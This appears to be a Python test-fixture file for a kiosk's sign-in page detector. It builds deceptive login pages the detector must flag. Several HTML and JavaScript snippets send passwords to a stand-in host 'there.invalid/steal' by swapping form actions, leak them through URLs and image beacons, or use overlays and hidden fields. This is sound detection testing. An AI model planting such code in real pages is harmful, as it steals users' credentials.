"""Sign-in pages that are not what they seem, each as it should be seen and how filling it in ends.

``THERE`` stands for the address of somewhere else.
"""

from kiosk.session.model.site import PageState
from tests.support.sign_in_pages import (
    ASKS_PASSWORD,
    CLASSIC,
    EMAIL_FIELD,
    IN,
    PASSWORD_FIELD,
    SIGN_IN,
    form,
)

THERE = "http://there.invalid"
BOTH = EMAIL_FIELD + PASSWORD_FIELD
STEAL = f"{THERE}/steal"


def scripted(script: str, page: str = CLASSIC) -> str:
    """That page with a script in which its parts have names."""
    parts = "const [email, password] = document.querySelectorAll('input');"
    found = "const form = document.forms[0], button = document.querySelector('button');"
    return f"{page}<script>{parts}{found}{script}</script>"


def nested(inner: str) -> str:
    """A page as the text of an attribute."""
    return inner.replace('"', "&quot;").replace("<", "&lt;")


UNSAFE = {
    "another's action": form(BOTH + SIGN_IN, STEAL),
    "a button's own action": form(BOTH + f"<button formaction='{STEAL}'>Sign in</button>"),
    "another's base": f"<base href='{THERE}/'>" + CLASSIC,
    "a script as the action": form(BOTH + SIGN_IN, "javascript:void 0"),
    "in a shadow, into an address": (
        f"<x-page></x-page><template id=t>{form(BOTH + SIGN_IN, more='')}</template><script>"
        "document.querySelector('x-page').attachShadow({mode: 'open'}).append(t.content)</script>"
    ),
    "its action covered by a field": form(
        BOTH + "<input type=hidden name=action><input type=hidden name=getAttribute>" + SIGN_IN,
        STEAL,
    ),
    "swapped as the e-mail is given": scripted(f"email.oninput = () => form.action = '{STEAL}'"),
    "swapped as the password is given": scripted(
        f"password.oninput = () => form.action = '{STEAL}'"
    ),
    "swapped soon after": scripted(
        f"password.oninput = () => setTimeout(() => form.action = '{STEAL}', 20)"
    ),
    "swapped as it is pressed": scripted(f"button.onclick = () => form.action = '{STEAL}'"),
    "sent by the page as it is pressed": scripted(
        "button.onclick = event => { event.preventDefault();"
        f"form.action = '{STEAL}'; form.submit() }}"
    ),
    "swapped as it is sent": scripted(f"form.onsubmit = () => {{ form.action = '{STEAL}' }}"),
    "into an address": form(BOTH + SIGN_IN, more="method=get"),
    "into an address by the button": form(BOTH + "<button formmethod=get>Sign in</button>"),
    "into an address, since nothing is said": form(BOTH + SIGN_IN, more=""),
    "into an address as it is pressed": scripted("button.onclick = () => form.method = 'get'"),
    "into an address behind our back": scripted(
        "form.onsubmit = event => { event.stopPropagation(); form.method = 'get' }"
    ),
    "into an address by a script": scripted(
        "form.onsubmit = event => { event.preventDefault();"
        "location = '/home?p=' + encodeURIComponent(password.value) }"
    ),
    "into an address of a picture": scripted(
        "password.oninput = () => { new Image().src = '/dot?' +"
        "new URLSearchParams({p: password.value}) }"
    ),
}
"""Recognised, and never sent."""

NOT_TAKEN = {
    "something over the button": scripted(
        "const box = button.getBoundingClientRect(), cover = document.createElement('div');"
        "cover.style = `position:fixed;inset:${box.top}px 0 0 ${box.left}px`;"
        "document.body.append(cover)"
    ),
    "something over the field as it is reached": scripted(
        "password.onfocus = () => document.body.insertAdjacentHTML('beforeend',"
        "`<div style='position:fixed;inset:0'></div>`)"
    ),
    "shown as it is reached": scripted("password.onfocus = () => password.type = 'text'"),
    "shown as it is given": scripted("password.oninput = () => password.type = 'text'"),
    "a password by name only": form(
        EMAIL_FIELD + "<label>Password <input name=password></label>" + SIGN_IN
    ),
    "never to be pressed": form(BOTH + "<button disabled>Sign in</button>"),
    "never kept": scripted("setInterval(() => password.value = '', 10)"),
}
"""Recognised, and left to a person."""

HIDING = {
    "not drawn": "display:none",
    "not visible": "visibility:hidden",
    "beside the page": "position:absolute;left:-5000px",
    "above the page": "position:absolute;top:-5000px",
}
VEILING = {
    "in a place without a size": "position:absolute;width:1px;height:1px;overflow:hidden",
    "see-through": "opacity:0",
    "nearly see-through": "opacity:.05",
    "filtered away": "filter:opacity(2%)",
    "cut away": "clip-path:inset(50%)",
    "below another": "position:absolute;top:0;left:0;z-index:-1",
}
BELOW = "<div style='height:3000px'></div>"
HIDDEN = {
    **{name: f"<div style='{style}'>{PASSWORD_FIELD}</div>" for name, style in HIDING.items()},
    "too small to be seen": "<input type=password style='width:2px;height:2px;padding:0;border:0'>",
    "inert": f"<div inert>{PASSWORD_FIELD}</div>",
    "hidden from readers": f"<div aria-hidden=true>{PASSWORD_FIELD}</div>",
    "in a set that is off": f"<fieldset disabled>{PASSWORD_FIELD}</fieldset>",
    "not to be written in": "<input type=password readonly>",
}
"""A password's field that nobody sees, beside an e-mail's that everybody does."""

VEILED = {
    name: form(f"{EMAIL_FIELD}<div style='{style}'>{PASSWORD_FIELD}</div>{SIGN_IN}")
    for name, style in VEILING.items()
}
"""One that has its place on the page, and still nobody sees it."""


def beside(hidden: str) -> str:
    """That field in a form that else asks for an e-mail."""
    return form(EMAIL_FIELD + hidden + SIGN_IN)


SHEET = "<div style='position:fixed;inset:0;background:#fff;width:100%'>Zoe Canary</div>"
BLOB = f"""<script>const made = new Blob([`{CLASSIC}`], {{type: 'text/html'}});
location = URL.createObjectURL(made)</script>"""
FRAME = "<iframe style='width:400px;height:300px'"
SEEN = {
    **{name: (page, PageState.PERSON_WANTED) for name, page in VEILED.items()},
    "another's frame": (f"<p>x</p>{FRAME} src='{THERE}/'></iframe>", PageState.UNKNOWN),
    "a frame of its own": (f"<p>x</p>{FRAME} src='/inner'></iframe>", PageState.UNKNOWN),
    "a document in an attribute": (
        f'<p>x</p>{FRAME} srcdoc="{nested(CLASSIC)}"></iframe>',
        PageState.UNKNOWN,
    ),
    "a document in an address": (
        f"<p>x</p><script>location = 'data:text/html,' + encodeURIComponent(`{CLASSIC}`)</script>",
        PageState.UNKNOWN,
    ),
    "a sheet over all": (CLASSIC + SHEET, PageState.UNKNOWN),
    "a form for who is in": (IN + ASKS_PASSWORD, PageState.PERSON_WANTED),
    "a patient's e-mail": (IN + form(EMAIL_FIELD + "<button>Next</button>"), PageState.IN),
    "a tooth's code": (IN + form("<label>Code <input name=code></label>" + SIGN_IN), PageState.IN),
    "a question over who is in": (
        IN + "<div role=dialog aria-modal=true>Still there? <button>Yes</button></div>",
        PageState.UNKNOWN,
    ),
    "a newsletter": (
        form(EMAIL_FIELD + "<button>Subscribe</button>", "/news"),
        PageState.PERSON_WANTED,
    ),
    "a newsletter by its heading": (
        "<h2>Our newsletter</h2>" + form(EMAIL_FIELD + "<button>Go</button>"),
        PageState.PERSON_WANTED,
    ),
    "a sign-up": (
        "<h1>Create your account</h1>" + form(BOTH + "<button>Continue</button>"),
        PageState.PERSON_WANTED,
    ),
    "a sign-up with two passwords": (
        form(BOTH + "<input type=password name=again><button>Continue</button>"),
        PageState.PERSON_WANTED,
    ),
    "a forgotten password": (
        "<h1>Forgot your password?</h1>" + form(EMAIL_FIELD + "<button>Continue</button>"),
        PageState.PERSON_WANTED,
    ),
    "a new password": (
        form("<input type=password autocomplete=new-password><button>Save</button>"),
        PageState.CHANGE_WANTED,
    ),
    "a password to be changed": (
        form(f"{PASSWORD_FIELD}<input type=password name=new_password><button>Save</button>"),
        PageState.CHANGE_WANTED,
    ),
    "somebody else's e-mail": (
        form(f"<input type=email value=lee@smile.example readonly>{PASSWORD_FIELD}{SIGN_IN}"),
        PageState.PERSON_WANTED,
    ),
    "terms to be taken": (
        form(BOTH + "<label><input type=checkbox> I accept the terms</label>" + SIGN_IN),
        PageState.PERSON_WANTED,
    ),
    "terms as a page": (
        "<h1>New terms of use</h1><p>x</p><button>Accept</button>",
        PageState.PERSON_WANTED,
    ),
    "terms with a box": (
        "<h1>Terms of use</h1>"
        + form("<label><input type=checkbox> I accept</label><button>Continue</button>"),
        PageState.PERSON_WANTED,
    ),
    "a code on demand": (form("<button>Send the code</button>"), PageState.PERSON_WANTED),
    "a human check": (
        form(BOTH + "<div data-sitekey=x style='height:70px'>x</div>" + SIGN_IN),
        PageState.PERSON_WANTED,
    ),
    "a human check as a page": (
        "<title>Just a moment...</title><p>Checking your browser</p>",
        PageState.PERSON_WANTED,
    ),
    "two ways to give a password": (
        CLASSIC + form(BOTH + SIGN_IN, "/other"),
        PageState.PERSON_WANTED,
    ),
}
"""How a page is seen that nothing may be given to."""
